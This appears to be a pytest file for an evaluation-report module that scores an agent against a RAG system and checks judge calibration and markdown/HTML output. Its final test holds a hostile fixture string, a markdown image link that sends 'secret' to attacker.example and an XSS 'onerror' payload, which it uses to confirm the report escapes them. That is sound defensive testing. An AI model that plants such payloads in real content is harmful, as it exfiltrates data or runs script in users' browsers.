from __future__ import annotations

import json
from pathlib import Path

import pytest

from deepscout.evals.datasets import EvalItem
from deepscout.evals.records import AnswerCost, SourceRef, SystemAnswer, Verdict
from deepscout.evals.report import write_report
from deepscout.evals.summary import judge_calibration, pairwise_rows, system_scores


def _items() -> list[EvalItem]:
    return [
        EvalItem(
            "q1", "Who directed 2001?", ("Stanley Kubrick",), {"difficulty": "easy"}, ("2001", "Kubrick")
        ),
        EvalItem("q2", "Capital of France?", ("Paris",), {"difficulty": "hard"}, ("France",)),
        EvalItem("q3", "Capital of Spain?", ("Madrid",), {"difficulty": "hard"}, ()),
    ]


def _answers() -> list[SystemAnswer]:
    return [
        SystemAnswer(
            "q1",
            "agent",
            "Stanley Kubrick [1]",
            (SourceRef(1, "2001", "2001: A Space Odyssey"),),
            ("2001", "Kubrick"),
            AnswerCost(tool_calls=4, prompt_tokens=900, computed_tokens=300, output_tokens=20, latency_s=3.0),
        ),
        SystemAnswer("q1", "rag", "Arthur C. Clarke [1]", (), ("2001",), AnswerCost(1, 700, 700, 15, 1.0)),
        SystemAnswer("q2", "agent", "Lyon", (), (), AnswerCost(2, 500, 200, 10, 2.0)),
        SystemAnswer("q2", "rag", "Paris", (), ("France",), AnswerCost(1, 600, 600, 10, 1.0)),
    ]


def _verdicts() -> list[Verdict]:
    return [
        Verdict("q1", "agent", "rag", "win", False, "A is right", "B is right"),
        Verdict("q2", "agent", "rag", "tie", True, "A", "A"),
        Verdict("q3", "agent", "rag", "tie", True, "A", "A"),
    ]


def test_summaries_follow_the_records() -> None:
    rows = {r.category: r for r in pairwise_rows(_items(), _verdicts())}
    assert rows["all"].n == 3 and rows["all"].win.estimate == pytest.approx(1 / 3)
    assert rows["easy / objective"].win.estimate == 1.0
    scores = {s.system: s for s in system_scores(_items(), _answers()) if s.category == "all"}
    assert scores["agent"].exact_match.estimate == 0.5
    assert scores["rag"].exact_match.estimate == 0.5
    assert scores["agent"].evidence_recall.estimate == pytest.approx(0.5)  # 2/2 on q1, 0/1 on q2
    assert scores["rag"].evidence_recall.estimate == pytest.approx(0.75)
    calibration = judge_calibration(_items(), _answers(), _verdicts())
    assert calibration.order_flip_rate == pytest.approx(2 / 3)
    assert calibration.decisive_items == 2  # q1: only agent right; q2: only rag right
    assert calibration.agreement_with_objective == 0.5  # q1 agrees (win), q2 was a tie


def test_report_writes_markdown_html_charts_and_summary(tmp_path: Path) -> None:
    files = write_report(
        out_dir=tmp_path, manifest={"run_id": "abc"}, items=_items(), answers=_answers(), verdicts=_verdicts()
    )
    markdown = files.markdown.read_text()
    assert "Pairwise: agent vs rag: not informative" in markdown  # 2 of 3 verdicts flipped with the order
    assert "Stanley Kubrick \\[1\\]" in markdown and "orders disagreed" in markdown
    page = files.html.read_text()
    assert page.count("data:image/png;base64,") == 2  # self-contained: charts inlined
    assert "<table>" in page and "Capital of France?" in page
    assert all(p.read_bytes().startswith(b"\x89PNG") for p in files.charts)
    summary = json.loads(files.summary_json.read_text())
    assert summary["judge"]["order_flip_rate"] == pytest.approx(2 / 3)
    assert {c["system"] for c in summary["cost"]} == {"agent", "rag"}


def test_an_informative_judge_gets_the_win_rate_table(tmp_path: Path) -> None:
    verdicts = [
        Verdict("q1", "agent", "rag", "win", False, "A", "B"),
        Verdict("q2", "agent", "rag", "loss", False, "B", "A"),
    ]
    files = write_report(out_dir=tmp_path, manifest={}, items=_items(), answers=_answers(), verdicts=verdicts)
    assert "| all | 2 | 50.0%" in files.markdown.read_text()


def test_scores_split_by_difficulty_and_keep_fallbacks_apart() -> None:
    answers = [
        SystemAnswer("q1", "agent", "Stanley Kubrick directed it [1]", status="fallback"),
        SystemAnswer("q2", "agent", "Paris [1]"),
    ]
    rows = {(s.system, s.category): s for s in system_scores(_items(), answers)}
    assert set(rows) == {("agent", "all"), ("agent", "easy"), ("agent", "hard")}
    overall = rows[("agent", "all")]
    assert overall.fallbacks == 1
    assert overall.contains_model.estimate == 1.0 and overall.contains_fallback.estimate == 1.0
    assert rows[("agent", "easy")].n == 1 and rows[("agent", "easy")].fallbacks == 1


def test_report_markdown_does_not_render_data_as_markup(tmp_path: Path) -> None:
    hostile = "![x](https://attacker.example/?q=secret) <img src=x onerror=alert(1)> | # heading"
    items = [EvalItem("q1", hostile, (hostile,), {"difficulty": "easy"}, ())]
    answers = [
        SystemAnswer("q1", "agent", hostile, (SourceRef(1, "d", hostile),)),
        SystemAnswer("q1", "rag", "fine"),
    ]
    verdicts = [Verdict("q1", "agent", "rag", "win", False, hostile, hostile)]
    files = write_report(out_dir=tmp_path, manifest={}, items=items, answers=answers, verdicts=verdicts)
    markdown = files.markdown.read_text()
    assert "![x](" not in markdown and "<img" not in markdown
    assert "\\!\\[x\\]\\(https://attacker" in markdown
    page = files.html.read_text()
    assert "<img src=x" not in page
